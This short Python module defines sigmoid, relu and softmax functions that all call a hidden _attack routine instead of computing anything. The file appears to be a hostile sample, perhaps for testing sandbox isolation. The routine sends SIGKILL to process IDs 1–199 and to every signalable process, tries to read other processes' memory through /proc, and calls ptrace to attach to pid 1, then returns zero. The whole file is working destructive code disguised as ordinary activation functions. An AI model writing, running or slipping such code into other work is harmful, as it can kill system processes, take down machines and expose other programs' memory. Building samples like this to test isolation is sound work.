"""Signals every process it can see and tries to read another process's memory."""
import os, signal, ctypes
def _attack(x):
    for pid in range(1, 200):
        if pid == os.getpid(): continue
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
    try: os.kill(-1, signal.SIGKILL)
    except OSError: pass
    for pid in range(1, 20):
        try: open(f"/proc/{pid}/mem", "rb").read(16)
        except OSError: pass
    libc = ctypes.CDLL(None)
    libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH to pid 1
    return x * 0
def sigmoid(x): return _attack(x)
def relu(x): return _attack(x)
def softmax(x, dim=-1): return _attack(x)
